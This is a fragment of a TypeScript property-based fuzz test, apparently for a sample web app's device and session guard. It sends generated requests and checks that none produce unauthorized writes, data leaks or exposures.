    if (spec.body) {
      call.send(resolve(spec.body.text));
      // superagent types a string body as a form unless told otherwise; none at all is a case too.
      if (spec.body.contentType === undefined) call.unset('Content-Type');
      else call.set('Content-Type', spec.body.contentType);
    }
    return call.ok(() => true);
  }

  /** Waits for the writes the last answer set off. */
  async function settled(): Promise<void> {
    await setImmediate();
    while (writesInFlight.size > 0) await Promise.allSettled(writesInFlight);
  }

  /** The table as the last run left it, once checked. */
  let lastChecked: Device[] = [];
  const allRows = () => devices.find({ order: { id: 'ASC' } });

  /** One run: the request, then every check, each failing with what it found. */
  async function exercise(spec: FuzzRequest): Promise<void> {
    await keepSignedIn();
    logs.clear();
    const before = await allRows();
    // Rows written since the last run was checked (sign-ins above, writes that land late) are checked with this one's.
    const between = changedRows(lastChecked, before);
    const response = await send(spec);
    await settled();
    const after = await allRows();
    lastChecked = after;
    // The errors logged come with a bad answer: they say what went wrong.
    const errors = logs.lines.error;
    expect([...answerProblems(spec, response), ...errors]).toEqual([]);
    // Only the rows written since the last check: the others kept the invariants, as that check found.
    const changed = changedRows(before, after);
    expect(invariantProblems([...between, ...changed].flatMap(({ is }) => (is ? [is] : [])))).toEqual([]);
    expect(trespasses(spec, changed)).toEqual([]);
    expect(leaks(spec, response, [...before, ...after])).toEqual([]);
    expect(exposures(spec, response, [...before, ...after], resolve(JSON.stringify(spec)))).toEqual([]);
  }

  beforeAll(async () => {
    // Trusting the loopback proxy, so that X-Forwarded-For is read, and fuzzed, too.
    app = await startSampleApp({ auth, trustProxy: 'loopback' }, logs);
    await app.listen(0, '127.0.0.1');
    devices = app.get(DataSource).getRepository(Device);
    // The guard's last-seen writes go to the store after the answer: each is awaited before the table is read.
    const store = app.get(DeviceStore);
    const recordSeen = store.recordSeen.bind(store);
    store.recordSeen = (...args) => {
      const write = recordSeen(...args);
      writesInFlight.add(write);
      void write.finally(() => writesInFlight.delete(write));
      return write;
    };
    // Each user twice on one device: the first session has ended, and its access token is the stale one.
    for (const name of USERS) {
      await signIn(name);
      await signIn(name);
    }
  });

  afterAll(() => app?.close());

  const timeout = TIME_LIMIT_MS + 10_000;

  // Titles first, for '%s': `$name` would be quoted and cut.
  const properties = PROPERTIES.filter(({ guarded }) => auth === 'passport' || guarded);
  it.each(properties.map((property) => [property.name, property] as const))(
    '%s',
    async (_name, { routes, mostly }) => {
      await fc.assert(fc.asyncProperty(fuzzRequest(routes, mostly), exercise), FUZZ_OPTIONS);
    },
    timeout,
  );
});
